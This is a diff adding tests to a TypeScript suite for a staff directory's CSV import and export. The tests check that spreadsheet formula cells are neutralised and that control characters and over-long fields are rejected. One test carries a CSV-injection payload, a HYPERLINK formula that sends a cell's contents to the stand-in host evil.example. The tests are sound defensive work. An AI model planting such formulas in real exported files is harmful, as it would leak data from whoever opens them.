@@ -140,4 +140,59 @@ describe("directory import", () => {
     expect(hr.roles).toBe("hr");
     expect(await exportDirectory(db.db)).toContain("hr@firma.no,HR,,nb,NO,Europe/Oslo,,,hr");
   });
+
+  // Issue 10: the export is opened in Excel by HR; a name is attacker-controlled text.
+  it("neutralises formula cells on export (CSV injection) and takes the quote off again on import", async () => {
+    const evil = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk her")';
+    const csvIn = [
+      HEADER,
+      `kari@firma.no,"${evil.replaceAll('"', '""')}",,nb,NO,Europe/Oslo,@U0KARI,`,
+      "ola@firma.no,+47 Ola,kari@firma.no,nb,NO,,-U0OLA,",
+    ].join("\n");
+    await importDirectory(db.db, csvIn, opts);
+    expect((await db.db.person.findUniqueOrThrow({ where: { email: "kari@firma.no" } })).name).toBe(evil);
+    const csv = await exportDirectory(db.db);
+    const { parse } = await import("csv-parse/sync");
+    const cells = (parse(csv) as string[][]).flat();
+    // No cell a spreadsheet would run as a formula.
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toContain(`'${evil}`);
+    expect(cells).toContain("'+47 Ola");
+    expect(cells).toContain("'@U0KARI");
+    expect(cells).toContain("'-U0OLA");
+    // The round trip is stable: importing our own export changes nothing.
+    const second = await createTempDb();
+    try {
+      await importDirectory(second.db, csv, opts);
+      expect((await second.db.person.findUniqueOrThrow({ where: { email: "kari@firma.no" } })).name).toBe(evil);
+      expect((await second.db.person.findUniqueOrThrow({ where: { email: "ola@firma.no" } })).slackUserId).toBe("-U0OLA");
+      expect(await exportDirectory(second.db)).toBe(csv);
+    } finally {
+      await second.dispose();
+    }
+    expect(await importDirectory(db.db, csv, opts)).toMatchObject({ unchanged: 2, updated: 0, created: 0 });
+  });
+
+  it("refuses NUL and other control characters, and over-long names and e-mails, with the line number", async () => {
+    const long = "A".repeat(100_000);
+    const csv = [
+      HEADER,
+      "kari@firma.no,Kari Nordmann,,nb,NO,,,",
+      "nul@firma.no,Nul\u0000Person,kari@firma.no,nb,NO,,,",
+      `lang@firma.no,${long},kari@firma.no,nb,NO,,,`,
+      `${"x".repeat(250)}@firma.no,Lang Adresse,kari@firma.no,nb,NO,,,`,
+      "bidi@firma.no,Anne\u202eredeL,kari@firma.no,nb,NO,,,",
+      "bell@firma.no,Bell,kari@firma.no,nb,NO,,U0\u0007,",
+    ].join("\n");
+    const problems = await problemsOf(db, csv);
+    expect(problems.map((p) => [p.line, p.field, p.key])).toEqual([
+      [3, "name", "access:directory.controlCharacters"],
+      [4, "name", "access:directory.tooLong"],
+      [5, "email", "access:directory.tooLong"],
+      [6, "name", "access:directory.controlCharacters"],
+      [7, "slack_user_id", "access:directory.controlCharacters"],
+    ]);
+    expect(problems[1]!.params).toEqual({ max: 200, length: 100_000 });
+    expect(await db.db.person.count()).toBe(0);
+  });
 });
